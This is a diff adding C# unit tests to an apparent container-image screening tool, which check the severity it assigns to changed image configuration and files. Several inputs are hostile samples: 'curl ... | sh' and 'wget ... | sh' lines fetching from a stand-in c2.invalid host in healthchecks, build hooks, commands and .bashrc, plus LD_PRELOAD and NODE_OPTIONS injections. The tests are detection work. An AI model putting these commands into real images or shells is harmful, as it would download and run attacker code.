@@ -89,6 +89,76 @@ public sealed class EcosystemShapeTests
         Assert.Contains("process large.js", shape.ValuesOf(Dimension.FileCapabilities).Names);
     }
 
+    /// <summary>What the configuration of an image has others do, beside its entry point.</summary>
+    [Theory]
+    [InlineData("""
+        "Env":["PATH=/usr/bin:/bin","NODE_OPTIONS=--max-old-space-size=8192","MODE=production"]
+        """, Severity.Low)]
+    [InlineData("""
+        "Env":["PATH=/usr/bin:/bin:/opt/jdk-21/bin"]
+        """, Severity.Medium)]
+    [InlineData("""
+        "Env":["PATH=/usr/bin:/bin","LD_PRELOAD=/tmp/x.so"]
+        """, Severity.High)]
+    [InlineData("""
+        "Env":["PATH=/usr/bin:/bin","NODE_OPTIONS=--require /tmp/x.js"]
+        """, Severity.High)]
+    [InlineData("""
+        "Env":["PATH=/usr/bin:/bin"],"Healthcheck":{"Test":["CMD-SHELL","curl -f http://localhost:8080/ || exit 1"]}
+        """, Severity.Low)]
+    [InlineData("""
+        "Env":["PATH=/usr/bin:/bin"],"Healthcheck":{"Test":["CMD-SHELL","curl -s https://c2.invalid/x | sh"]}
+        """, Severity.High)]
+    [InlineData("""
+        "Env":["PATH=/usr/bin:/bin"],"Cmd":["serve","--port","8081"]
+        """, Severity.Low)]
+    [InlineData("""
+        "Env":["PATH=/usr/bin:/bin"],"Cmd":["sh","-c","wget -qO- https://c2.invalid/x | sh"]
+        """, Severity.High)]
+    [InlineData("""
+        "Env":["PATH=/usr/bin:/bin"],"OnBuild":["RUN curl https://c2.invalid/x | sh"]
+        """, Severity.High)]
+    [InlineData("""
+        "Env":["PATH=/usr/bin:/bin"],"Shell":["/bin/bash","-c"]
+        """, Severity.Low)]
+    public void What_an_image_has_others_do_is_told_and_stops_where_it_loads_or_fetches(string config, Severity worst)
+    {
+        static byte[] Pack(int release, string config, params (string Path, string Text)[] files) =>
+            IncidentFixtures.DockerArchive($$"""{"User":"app","Entrypoint":["/usr/bin/tini"],{{config}}}""", [.. files.Append(("app/server.py", $"release = {release}\n")).Select(file => (file.Item1, Encoding.UTF8.GetBytes(file.Item2)))]);
+        var book = Learn(Enumerable.Range(1, 8).Select(release => Pack(release, "\"Env\":[\"PATH=/usr/bin:/bin\"]")));
+
+        Assert.Equal(worst, Found(book, Pack(9, config)).Where(finding => finding.Rule.Id == "deviation/new-script").Max(finding => finding.Severity));
+    }
+
+    [Theory]
+    [InlineData("usr/lib/python3/dist-packages/x.pth", "import os\n", Severity.Medium)]
+    [InlineData("usr/local/lib/python3.12/site-packages/sitecustomize.py", "x = 1\n", Severity.Medium)]
+    [InlineData("etc/hosts", "10.0.0.1 registry.example\n", Severity.Medium)]
+    [InlineData("etc/apt/sources.list.d/x.list", "deb http://c2.invalid/ ./\n", Severity.Medium)]
+    [InlineData("usr/local/share/ca-certificates/x.crt", "-----BEGIN CERTIFICATE-----\n", Severity.Medium)]
+    [InlineData("root/.bashrc", "alias ls=ls\n", Severity.Medium)]
+    [InlineData("root/.bashrc", "curl -s https://c2.invalid/x | sh\n", Severity.High)]
+    [InlineData("home/app/.profile", "umask 027\n", Severity.Medium)]
+    [InlineData("app/.bashrc", "umask 027\n", null)]
+    [InlineData("srv/etc/hosts", "10.0.0.1 registry.example\n", null)]
+    public void What_an_image_takes_up_by_itself_warns_at_least(string path, string text, Severity? worst)
+    {
+        static byte[] Pack(int release, params (string Path, string Text)[] files) =>
+            IncidentFixtures.DockerArchive("""{"User":"app","Entrypoint":["/usr/bin/tini"]}""", [.. files.Append(("app/server.py", $"release = {release}\n")).Select(file => (file.Item1, Encoding.UTF8.GetBytes(file.Item2)))]);
+        var book = Learn(Enumerable.Range(1, 8).Select(release => Pack(release)));
+        var found = Found(book, Pack(9, (path, text))).Where(finding => finding.Rule.Id == "deviation/new-script").ToList();
+
+        Assert.Equal(worst, found.Count == 0 ? null : found.Max(finding => finding.Severity));
+    }
+
+    [Fact]
+    public void How_an_image_is_saved_is_not_learned()
+    {
+        var shape = ReleaseShape.Of(Screening.Of("a.tar", Image(1, "app", Status, 0b111_101_101), new ScreenOptions { Profiles = new ProfileBook() }).Artifact);
+
+        Assert.Equal(["app/server.py", "usr/bin/tini", "var/lib/dpkg/status"], shape.ValuesOf(Dimension.Files).Names.Order(StringComparer.Ordinal));
+    }
+
     private static byte[] Image(int release, string user, string status, int mode)
     {
         var layer = TestArchive.TarWithModes(
